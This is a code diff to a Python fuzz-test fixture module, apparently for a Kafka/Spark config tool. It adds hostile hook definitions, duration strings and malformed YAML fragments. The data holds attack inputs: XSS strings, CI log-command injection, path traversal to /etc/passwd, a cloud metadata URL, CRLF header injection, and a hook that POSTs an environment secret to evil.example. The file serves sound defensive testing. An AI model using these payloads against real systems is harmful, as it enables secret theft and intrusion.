@@ -19,7 +19,7 @@ _CI = (
     "##[error]x", "##[set-env name=PATH]x", "##vso[task.setvariable variable=x]y", "##teamcity[message text='x']",
     "section_start:1:x\r\x1b[0K", "\n::add-mask::x", "\r\n::error::x", " ::error::x", "%0A::error::x", "[skip ci]",
 )  # fmt: skip
-_MARKUP = (
+MARKUP = (
     "<script>alert(1)</script>", "</code><script>c4nary</script>", '"><img src=x onerror=c4nary>',
     "javascript:c4nary",
     "<!--", "-->", "<![CDATA[", "</details>", "</svg>", "<style>*{}</style>", "&lt;script&gt;", "&#60;script&#62;",
@@ -35,7 +35,7 @@ _SHELL = (
     "*", "~root",
     "!!", "\\'", "%s%n", "{0.__class__}", "%(c4nary)s", "${PATH}", "{{7*7}}", "${{ secrets.X }}",
 )  # fmt: skip
-_PATHS = (
+PATHS = (
     "../../../../etc/passwd", "/etc/passwd", "/proc/self/environ", "/dev/zero", "/dev/stdin", "file:///etc/passwd",
     "..", ".",
     "C:\\windows", "\\\\evil\\share", "a/../../b", "/", "~", "con", "x" * 300,
@@ -112,6 +112,31 @@ SPARK_SETTINGS = (
     ("spark.executor.memory", "9" * 60),
 )  # fmt: skip
 """Names and values: code, files, other hosts, secrets, and what Spark reads as another setting."""
+HOOKS: tuple[object, ...] = (
+    {"command": ["sh", "-c", f"touch {CANARY}"]}, {"command": [f"./{CANARY}"]}, {"command": []}, {"command": [""]},
+    {"command": ["/bin/true", "${env:HOSTILE_SECRET}"]}, {"command": ["a\x00b"]},
+    {"command": ["true"], "timeout": "9w"},
+    {"http": {"url": "http://169.254.169.254/latest", "method": "GET"}},
+    {"http": {"url": "https://evil.example/${env:HOSTILE_SECRET}", "method": "POST", "body": "${env:HOSTILE_SECRET}"}},
+    {"http": {"url": "https://a.example\r\nx: y/", "method": "PUT", "headers": {"a\r\nb": "c\r\nd"}}},
+    {"http": {"url": "https://u:hunter3@a.example/", "method": "GET", "ca": "/etc/passwd"}},
+    {"http": {"url": "file:///etc/passwd", "method": "GET"}}, {"http": {"url": "https://a/", "status": 10**30}},
+    {"file": {"path": "/etc/passwd", "text": "x"}}, {"file": {"path": "../../shared.yaml", "text": CANARY}},
+    {"command": ["true"], "http": {"url": "https://a/"}}, {}, [], "sh",
+)  # fmt: skip
+DURATIONS = (
+    "0s",
+    "-1s",
+    "9" * 400 + "w",
+    "1e9s",
+    "1.5h",
+    "99999999999w",
+    "\u0661s",
+    "1 s",
+    "",
+    "1s\n::error::x",
+    "1ms",
+)
 _ODD = (
     "", " ", "null", "true", "no", "0x1f", "1e999", ".inf", ".nan", "1:30", "2001-01-01", "<<", "=", "*a", "&a", "!x",
     "kafka-cluster",
@@ -122,7 +147,7 @@ NUMBERS = (0, -1, 1, 2**31 - 1, 2**31, 2**63 - 1, 2**63, 2**64, -(2**63) - 1, 10
 
 _any_text = st.text(st.characters(min_codepoint=1), max_size=12)
 _phrases = st.sampled_from(
-    (*_STEERING, *_CI, *_MARKUP, *_SHELL, *_PATHS, *REFERENCES, *MODULES, *EXPRESSIONS, *CLIENT_SETTINGS, *_ODD)
+    (*_STEERING, *_CI, *MARKUP, *_SHELL, *PATHS, *REFERENCES, *MODULES, *EXPRESSIONS, *CLIENT_SETTINGS, *_ODD)
 )
 hostile_text = st.one_of(
     _phrases,
@@ -132,8 +157,8 @@ hostile_text = st.one_of(
     _any_text,
 )
 shown_text = st.one_of(
-    st.sampled_from((*_STEERING, *_CI, *_MARKUP, *_SHELL)),
-    st.lists(st.sampled_from((*_STEERING, *_CI, *_MARKUP)), min_size=1, max_size=3).map("".join),
+    st.sampled_from((*_STEERING, *_CI, *MARKUP, *_SHELL)),
+    st.lists(st.sampled_from((*_STEERING, *_CI, *MARKUP)), min_size=1, max_size=3).map("".join),
     _any_text,
 )
 """For places that take any text, where it comes out again."""
@@ -163,5 +188,15 @@ FRAGMENTS = (
     "x-a: &x 1\n" * 400, "@x\n", "`x`\n", "x: >-9\n  a\n", "\n" * 5000,
     '{"topics": {"a": {"clusters": ["east"], "labels": {"a": "\\u001b[2J"}}}}', "[]", "x", "''", "!!str", "&a", "~",
     "---", "--- |", "x: 2001-13-45\n", "x: 0b2\n",
+    "x-a: &a {c: 1}\ntopics: {b: {<<: *a, <<: *a}}\n", "x-a: &a [1]\nx-b: {<<: *a}\n", "x-a: {<<: 1}\n",
+    "<<: {topics: {}}\n",
+    "x-a: &a {<<: *a}\n", "x: [.nan, -.inf, .NaN, +.inf]\n",
+    "quotas: [{clusters: [east], user: a, request_percentage: .nan}]\n",
+    "quotas: [{clusters: [east], user: a, request_percentage: .inf}]\n",
+    "topics: {a: {clusters: [east], partitions: 0x10}}\n",
+    "topics: {a: {clusters: [east], partitions: 1e1}}\n",
+    "topics: {? a : {clusters: [east]}, 'a': {clusters: [west]}}\n",
+    "topics: {\"\\u0061\": {clusters: [east]}, a: {clusters: [west]}}\n", "x-\u202ea: 1\nx-a: 2\n",
+    "topics: {a\u0301: {clusters: [east]}, \u00e1: {clusters: [east]}}\n",
 )  # fmt: skip
 """Whole files, or parts behind others."""
